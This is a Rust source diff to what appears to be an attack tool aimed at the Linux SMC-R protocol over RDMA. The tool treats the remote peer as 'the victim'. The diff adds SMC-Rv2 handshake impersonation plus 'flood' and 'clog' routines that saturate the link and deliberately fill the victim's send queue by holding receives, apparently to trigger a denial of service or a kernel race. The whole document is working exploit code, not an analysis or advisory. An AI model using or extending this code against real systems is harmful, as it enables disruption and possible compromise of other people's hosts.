@@ -18,8 +18,8 @@ use smc::conn::{
 };
 use smc_verbs::{AccessFlags, Device, Mr, Mtu, Provider, RdmaBuffer};
 use smc_wire::cdc::{self as wcdc, CdcRepr};
-use smc_wire::clc::{AcceptConfirmRepr, ClcMessage};
-use smc_wire::common::{BufSize, Gid, Mac, PeerId, QpMtu, U24};
+use smc_wire::clc::{AcceptConfirmRepr, AcceptV2, ClcMessage, FirstContactExt};
+use smc_wire::common::{BufSize, Eid, Gid, Mac, Name32, PeerId, QpMtu, U24};
 use smc_wire::llc::{AddLink, ConfirmLink, LlcMessage};
 
 use super::clc;
@@ -40,6 +40,9 @@ pub struct Attacker {
     pub peer_id: PeerId,
     /// RMB element size announced (16 KiB × 2^n).
     pub rmb_size: usize,
+    /// SMC-Rv2 with this UEID: the client sends a v2-only Proposal, like Linux (whose
+    /// v2-only Proposals carry Peer ID 0), offering one link per link group.
+    pub ueid: Option<Eid>,
 }
 
 impl Attacker {
@@ -57,6 +60,7 @@ impl Attacker {
             dev,
             peer_id,
             rmb_size: 64 * 1024,
+            ueid: None,
         }
     }
 
@@ -208,7 +212,11 @@ impl ClientHandshake {
     }
 
     pub fn send_proposal(&mut self) -> io::Result<()> {
-        let p = clc::proposal(self.att.peer_id, self.att.gid(), self.att.mac());
+        let a = &self.att;
+        let p = match a.ueid {
+            None => clc::proposal(a.peer_id, a.gid(), a.mac()),
+            Some(eid) => clc::proposal_v2(a.peer_id, a.gid(), a.mac(), eid),
+        };
         io::Write::write_all(&mut self.tcp, &p)
     }
 
@@ -240,10 +248,32 @@ impl ClientHandshake {
         if self.link.is_none() {
             self.prepare_link()?;
         }
-        let (Some(link), Some(rmb)) = (&self.link, &self.rmb) else {
+        let (Some(link), Some(rmb), Some(acc)) = (&self.link, &self.rmb, &self.accept) else {
             return Err(err("no link"));
         };
-        let c = clc::accept_confirm(false, &our_repr(&self.att, link, rmb, true));
+        let mut r = our_repr(&self.att, link, rmb, true);
+        if let Some(v2) = &acc.v2 {
+            // SMC-Rv2 first contact: echo the negotiated values, list our GID.
+            let f = v2.fce.unwrap_or_default();
+            let mut gids = arrayvec::ArrayVec::new();
+            gids.push(self.att.gid());
+            r.version = 2;
+            r.v2 = Some(AcceptV2 {
+                eid: v2.eid,
+                fce: Some(FirstContactExt {
+                    v2_direct: true,
+                    os_type: 2,
+                    release: f.release,
+                    hostname: Name32::new("attacker").unwrap_or_default(),
+                    max_conns: f.max_conns,
+                    max_links: f.max_links,
+                    feature_mask: 0,
+                    vendor_exp_options: 0,
+                }),
+                gid_list: Some(gids),
+            });
+        }
+        let c = clc::accept_confirm(false, &r);
         io::Write::write_all(&mut self.tcp, &c)
     }
 
@@ -251,11 +281,17 @@ impl ClientHandshake {
     /// LINK (rejected: one RNIC, no alternate path), then hands over the session.
     pub fn finish(self) -> io::Result<Session> {
         let link = self.link.clone().ok_or_else(|| err("no link"))?;
-        link.wait_llc(STEP, 0x01, false)
-            .ok_or_else(|| err("no CONFIRM LINK from the victim"))?;
-        link.wait_llc(STEP, 0x02, false)
-            .ok_or_else(|| err("no ADD LINK from the victim"))?;
         let a = self.accept.clone().ok_or_else(|| err("no Accept"))?;
+        let v2 = a.v2.is_some();
+        let ty = |t: u8| if v2 { 0x20 | t } else { t };
+        link.wait_llc(STEP, ty(0x01), false)
+            .ok_or_else(|| err("no CONFIRM LINK from the victim"))?;
+        // SMC-Rv2 with one link per link group: no ADD LINK (Linux does not wait for one).
+        let max_links = a.v2.as_ref().and_then(|v| v.fce).map_or(2, |f| f.max_links);
+        if max_links >= 2 {
+            link.wait_llc(STEP, ty(0x02), false)
+                .ok_or_else(|| err("no ADD LINK from the victim"))?;
+        }
         let rmb = self.rmb.ok_or_else(|| err("no RMB"))?;
         Ok(Session::new(
             self.tcp,
@@ -758,6 +794,75 @@ impl Session {
     /// Geometry of the victim's RMB element.
     pub fn victim_geometry(&self) -> RmbeGeometry {
         RmbeGeometry::linux(self.victim_rmb.size.bytes() as u32).expect("geometry")
+    }
+
+    /// Sends `msg` as fast as the link takes it for `dur` (at most `max` times); every
+    /// `cdc_every` messages (0: never) also a no-op CDC of our connection, so that the
+    /// victim drives the connection (and wants send slots) in the middle of the flood.
+    /// Returns how many went out.
+    pub fn flood(&self, msg: &[u8], dur: Duration, max: u64, cdc_every: u64) -> u64 {
+        let end = Instant::now() + dur;
+        let mut n = 0u64;
+        while Instant::now() < end && n < max {
+            if self.link.try_send(msg) {
+                n += 1;
+                if cdc_every > 0 && n.is_multiple_of(cdc_every) {
+                    let _ = self.raw_cdc(|_| {});
+                }
+            } else if self.link.failed.load(Ordering::SeqCst) {
+                break;
+            } else {
+                std::thread::yield_now();
+            }
+        }
+        n
+    }
+
+    /// The slow start of a flood of requests the victim answers, with our receives held
+    /// (see [`RawLink::hold_receives`]): its answers stay in its send queue (RNR), so
+    /// request by request its queue fills; a no-op CDC of our connection before each
+    /// request makes the victim drive that connection (wanting send slots) at every step,
+    /// up to the moment the queue is full. Returns the requests sent.
+    pub fn clog(&self, msg: &[u8], first: u64, steps: u64) -> u64 {
+        let mut n = 0;
+        for _ in 0..first {
+            if self.link.send(msg).is_err() {
+                return n;
+            }
+            n += 1;
+        }
+        std::thread::sleep(Duration::from_millis(200));
+        for _ in 0..steps {
+            if self.link.failed.load(Ordering::SeqCst) {
+                break;
+            }
+            // One request at a time, with time for the victim's event thread to answer it
+            // before the next CDC, so that no answer overtakes a step.
+            let _ = self.raw_cdc(|_| {});
+            std::thread::sleep(Duration::from_millis(2));
+            if self.link.send(msg).is_err() {
+                break;
+            }
+            n += 1;
+            std::thread::sleep(Duration::from_millis(10));
+        }
+        n
+    }
+
+    /// Ends the attacker's link group the orderly way (DELETE LINK, all links).
+    pub fn goodbye(&self) {
+        let v2 = self.link.v2.load(Ordering::SeqCst);
+        let _ = self
+            .link
+            .send_llc(&LlcMessage::DeleteLink(smc_wire::llc::DeleteLink {
+                v2,
+                response: false,
+                all: true,
+                orderly: true,
+                link_num: 0,
+                reason: smc_wire::llc::DeleteLinkReason::OP_INIT_TERM,
+            }));
+        let _ = self.link.quiesce(Duration::from_secs(2));
     }
 
     /// Orderly close of our side (CDC with C, then the TCP FIN).
